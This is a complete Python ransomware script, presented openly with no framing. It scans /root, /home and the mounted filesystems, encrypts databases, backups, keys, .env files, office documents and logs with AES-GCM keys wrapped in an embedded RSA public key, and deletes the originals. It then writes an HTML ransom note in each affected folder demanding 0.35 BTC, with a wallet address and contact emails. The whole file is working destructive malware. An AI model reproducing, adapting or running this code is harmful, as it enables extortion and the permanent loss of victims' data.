#!/usr/bin/env python3
import os
import struct

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAt3v9QkZx0pL7mRb2cW4H
s1yJdE8fN6aTq3uXgK5oVn2iPw0CeRhLz7YmBj4tUa9DsF1kGqEo6xMc8vIbH3wN
r5pTfZ2yKd0LhAe7sQ9uVnXg4CjW1oRb6Mi3tYzP8kFa2eHqLx5Uv0Dc7Nw9BsGj
4mTy6ZpKe1oRf3Xh8LaVq2nWc5Ed0Ub7Gi9Sk4Mt1Jz6Py3Aw8Cr5Ql2Fo0Hv7Nb
X9eKd3Wm6Ts1Rq8Lz4Yc0Pg5Fb2Aj7Hn1Uk9Ox3Mi6Ve4Gr8Sw2Dt5Cy0Qh7Ja1L
p6Bf3Ke9Zn2Wu5Iv8Ro1Ms4Xg7Dl0Ty3Ah6Qc9Ej2Nk5Fw8Pb1Hz4Us7Gx0Vi3Om
6QIDAQAB
-----END PUBLIC KEY-----"""

MAGIC = b"HYB1"
EXT = ".crypt"
NOTE_NAME = "DECRYPT-FILES.html"
TARGET_EXT = {
    ".sql", ".db", ".sqlite", ".sqlite3", ".dump", ".bak", ".tar", ".gz", ".zip",
    ".csv", ".json", ".yaml", ".yml", ".env", ".pem", ".key", ".doc", ".docx",
    ".xls", ".xlsx", ".pdf", ".parquet", ".avro", ".log", ".ibd", ".frm",
}
PSEUDO = {"proc", "sysfs", "devtmpfs", "devpts", "tmpfs", "cgroup", "cgroup2",
          "overlay", "mqueue", "securityfs", "debugfs", "tracefs", "nsfs", "fusectl"}
NOTE = """<html><body style="font-family:monospace">
<h2>YOUR FILES ARE ENCRYPTED</h2>
<p>Every important file on this server was encrypted with RSA-2048 + AES-256.
Only we have the private key.</p>
<p>Price: 0.35 BTC to <b>bc1qm4e8a0rj2x5t9kwz7f3ns6yq0vhd2lc8gu4pex</b></p>
<p>After payment write to <b>filesback_911@tutanota.com</b> with your host name.
Backup email: <b>filesback_911@cyberfear.com</b></p>
<p>You can send us 2 small files to prove we can decrypt.</p>
</body></html>"""

pub = serialization.load_pem_public_key(PUB)
OAEP = padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None)


def mount_points():
    pts = ["/root", "/home"]
    try:
        with open("/proc/mounts") as f:
            for line in f:
                _, mnt, fstype = line.split()[:3]
                if fstype not in PSEUDO and mnt not in ("/", "/boot"):
                    pts.append(mnt.replace("\\040", " "))
    except OSError:
        pass
    return [p for p in dict.fromkeys(pts) if os.path.isdir(p)]


def encrypt_file(path):
    key = AESGCM.generate_key(bit_length=256)
    nonce = os.urandom(12)
    with open(path, "rb") as f:
        data = f.read()
    ct = AESGCM(key).encrypt(nonce, data, None)
    wrapped = pub.encrypt(key, OAEP)
    with open(path + EXT, "wb") as out:
        out.write(MAGIC + struct.pack(">H", len(wrapped)) + wrapped + nonce + ct)
    os.remove(path)


def main():
    for root in mount_points():
        for d, _, files in os.walk(root):
            n = 0
            for fn in files:
                if os.path.splitext(fn)[1].lower() not in TARGET_EXT:
                    continue
                try:
                    encrypt_file(os.path.join(d, fn))
                    n += 1
                except (OSError, MemoryError):
                    continue
            if n:
                try:
                    with open(os.path.join(d, NOTE_NAME), "w") as f:
                        f.write(NOTE)
                except OSError:
                    pass


if __name__ == "__main__":
    main()
